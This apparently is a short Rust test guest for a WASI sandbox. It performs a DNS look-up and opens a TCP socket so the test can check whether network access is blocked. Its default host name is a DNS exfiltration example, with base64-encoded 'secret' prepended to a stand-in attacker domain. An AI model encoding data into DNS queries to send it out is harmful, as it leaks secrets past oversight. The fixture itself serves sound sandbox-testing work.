//! Looks up a name and opens a socket: the look-up alone would tell a stranger's name server what the guest knows.

use program::{
    Answer, Call, program,
    wasi::sockets::{instance_network, ip_name_lookup, network::IpAddressFamily, tcp_create_socket},
};
use serde_json::json;

fn run(call: Call) -> Answer {
    let name = call.json()["name"].as_str().unwrap_or("c2VjcmV0.attacker.example").to_owned();
    let network = instance_network::instance_network();
    let look_up = match ip_name_lookup::resolve_addresses(&network, &name) {
        Ok(addresses) => {
            addresses.subscribe().block();
            format!("{:?}", addresses.resolve_next_address())
        }
        Err(error) => error.name().to_owned(),
    };
    let socket = match tcp_create_socket::create_tcp_socket(IpAddressFamily::Ipv4) {
        Ok(_) => "a socket".to_owned(),
        Err(error) => error.name().to_owned(),
    };
    Ok(json!({ "look_up": look_up, "socket": socket }).to_string())
}

program!(run);
